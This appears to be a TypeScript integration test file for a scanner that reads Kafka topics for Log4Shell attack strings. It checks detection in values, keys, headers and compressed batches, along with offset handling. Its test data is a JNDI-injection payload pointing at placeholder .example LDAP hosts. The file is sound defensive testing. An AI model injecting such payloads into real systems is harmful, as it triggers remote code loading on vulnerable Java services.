import { gzipSync } from 'node:zlib'
import kafkajs from 'kafkajs'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type KafkaBroker, openKafka } from '../../../../test/kit/kafka-broker.ts'
import { describeWithLab } from '../../../../test/kit/lab.ts'
import type { AttackFinding, Gap } from '../../../core/index.ts'
import { consumeKafka } from './consume-kafka.ts'
import { kafkaPlaceOf } from './kafka-options.ts'

const attack = (name: string): string => `x \${jndi:ldap://${name}.example/a}`

describeWithLab('topics of a real Kafka', () => {
  let broker: KafkaBroker
  beforeAll(async () => {
    broker = await openKafka()
  }, 240_000)
  afterAll(() => broker.close(), 60_000)

  /** A member of a group: what it told, until it is stopped. */
  function member(topic: string, group = `of-${topic}`) {
    const stop = new AbortController()
    const findings: AttackFinding[] = []
    const gaps: Gap[] = []
    const assigned: (readonly string[])[] = []
    const place = { brokers: [broker.address], topics: [topic], group, fromBeginning: true, tls: null, sasl: null }
    const request = { ...place, onAssigned: (partitions: readonly string[]) => assigned.push(partitions) }
    const run = (async () => {
      for await (const event of consumeKafka(request, { signal: stop.signal })) {
        if (event.is === 'finding') findings.push(event.finding)
        else if (event.is === 'gap') gaps.push(event.gap)
      }
    })()
    return {
      findings,
      gaps,
      assigned,
      run,
      found: (): readonly string[] =>
        findings.map(({ at, field, lookup }) => `${at.source} ${field} ${lookup.host?.replace('.example', '')}`).sort(),
      /** A test that waits too long fails by its own time. */
      async until(told: () => boolean | Promise<boolean>): Promise<void> {
        while (!(await told())) await new Promise((resolve) => setTimeout(resolve, 50))
      },
      async stop(): Promise<void> {
        stop.abort()
        await run
      },
    }
  }

  test('values, keys and headers are read, and offsets are committed when they were', { timeout: 60_000 }, async () => {
    await broker.createTopic('all', 1)
    await broker.send('all', [
      { value: JSON.stringify({ '@timestamp': '2021-12-12T04:25:41Z', message: attack('json') }) },
      { value: attack('plain'), key: attack('key'), headers: { trace: attack('header') } },
    ])
    await broker.send('all', [{ value: attack('packed') }], kafkajs.CompressionTypes.GZIP)
    const first = member('all')
    await first.until(() => first.findings.length === 5)
    await first.until(async () => (await broker.committed('of-all', 'all')) === 3)
    await first.stop()
    await broker.send('all', [{ value: attack('later') }])
    const second = member('all')
    await second.until(() => second.findings.length === 1)
    await second.stop()

    expect(first.found()).toEqual([
      'kafka:all/0@0 message json',
      'kafka:all/0@1 header trace header',
      'kafka:all/0@1 key key',
      'kafka:all/0@1 null plain',
      'kafka:all/0@2 null packed',
    ])
    expect(first.findings.every(({ when }) => when !== null)).toBe(true)
    expect(second.found()).toEqual(['kafka:all/0@3 null later'])
    expect([...first.gaps, ...second.gaps]).toEqual([])
  })

  test('members share partitions, and each message is told once', { timeout: 90_000 }, async () => {
    await broker.createTopic('shared', 4)
    const [one, other] = [member('shared'), member('shared')]
    await one.until(() => [one, other].every(({ assigned }) => assigned.at(-1)?.length === 2))
    const messages = Array.from({ length: 40 }, (_, i) => ({ value: attack(`h${i}`), partition: i % 4 }))
    await broker.send('shared', messages)
    await one.until(() => one.findings.length + other.findings.length >= 40)
    await Promise.all([one.stop(), other.stop()])

    expect(one.findings).toHaveLength(20)
    expect(new Set([...one.findings, ...other.findings].map(({ id }) => id)).size).toBe(40)
  })

  test('what was not taken is told again, with the same ids', { timeout: 60_000 }, async () => {
    await broker.createTopic('again', 1)
    await broker.send('again', [{ value: attack('one') }, { value: attack('two') }])
    const place = { brokers: [broker.address], topics: ['again'], group: 'of-again', tls: null, sasl: null }
    let left: AttackFinding | null = null
    for await (const event of consumeKafka({ ...place, fromBeginning: true })) {
      if (event.is !== 'finding') continue
      left = event.finding
      break
    }
    const next = member('again')
    await next.until(() => next.findings.length === 2)
    await next.stop()

    expect(next.findings[0]?.id).toBe(left?.id)
  })

  test('a batch in the frame of snappy-java is unpacked', { timeout: 60_000 }, async () => {
    await broker.createTopic('snappy', 1)
    const own = { ...kafkajs.CompressionCodecs }
    const packing = { compress: ({ buffer }: { buffer: Buffer }) => Promise.resolve(snappyOf(buffer)) }
    Object.assign(kafkajs.CompressionCodecs, { 2: () => packing })
    await broker.send('snappy', [{ value: attack('one') }], kafkajs.CompressionTypes.Snappy)
    Object.assign(kafkajs.CompressionCodecs, own)
    const run = member('snappy')
    await run.until(() => run.findings.length === 1)
    await run.stop()

    expect(run.found()).toEqual(['kafka:snappy/0@0 null one'])
  })

  test('a batch that bursts is a gap, and no offset moves past it', { timeout: 60_000 }, async () => {
    await broker.createTopic('burst', 1)
    const own = { ...kafkajs.CompressionCodecs }
    const packing = { compress: ({ buffer }: { buffer: Buffer }) => Promise.resolve(gzipSync(buffer)) }
    Object.assign(kafkajs.CompressionCodecs, { 1: () => packing })
    await broker.send('burst', [{ value: 'x'.repeat(65 << 20) }], kafkajs.CompressionTypes.GZIP)
    Object.assign(kafkajs.CompressionCodecs, own)
    const run = member('burst')
    await run.run

    expect(run.gaps).toMatchObject([{ at: 'kafka:burst', because: 'malformed' }])
    expect(run.gaps[0]?.detail).toContain('more than 67108864 bytes')
    expect(await broker.committed('of-burst', 'burst')).toBe(0)
  })

  test('a topic that is not there is a problem', { timeout: 60_000 }, async () => {
    await expect(member('nowhere').run).rejects.toMatchObject({ code: 'KAFKA_UNUSABLE' })
  })
})

test('a broker that is not there is a problem', { timeout: 60_000 }, async () => {
  const place = { brokers: ['127.0.0.1:1'], topics: ['a'], group: 'a', fromBeginning: true, tls: null, sasl: null }

  await expect(consumeKafka(place)[Symbol.asyncIterator]().next()).rejects.toMatchObject({ code: 'KAFKA_UNUSABLE' })
})

test.each([
  ['kafka://a:9092/logs', ['a:9092'], ['logs'], 'fireline'],
  ['kafka://a,b:9093/logs,web.access?group=hunt', ['a:9092', 'b:9093'], ['logs', 'web.access'], 'hunt'],
  ['kafka://[::1]:9092/logs', ['[::1]:9092'], ['logs'], 'fireline'],
])('%s', (word, brokers, topics, group) => {
  expect(kafkaPlaceOf(word)).toEqual({ brokers, topics, group })
})

test.each([
  ['kafka://a:9092'],
  ['kafka://a:9092/'],
  ['kafka://user:pass@a/logs'],
  ['kafka:///logs'],
  ['kafka://a/logs?x=1'],
])('%s is no place of Kafka', (word) => {
  expect(kafkaPlaceOf(word)).toBeNull()
})

/** One literal in the frame of snappy-java, as Kafka has it. */
function snappyOf(bytes: Buffer): Buffer {
  const size = Buffer.from([(bytes.length & 0x7f) | 0x80, bytes.length >> 7])
  const literal = Buffer.from([61 << 2, (bytes.length - 1) & 0xff, (bytes.length - 1) >> 8])
  const block = Buffer.concat([size, literal, bytes])
  const head = Buffer.from([0x82, 0x53, 0x4e, 0x41, 0x50, 0x50, 0x59, 0, 0, 0, 0, 1, 0, 0, 0, 1, 0, 0, 0, 0])
  head.writeUInt32BE(block.length, 16)
  return Buffer.concat([head, block])
}
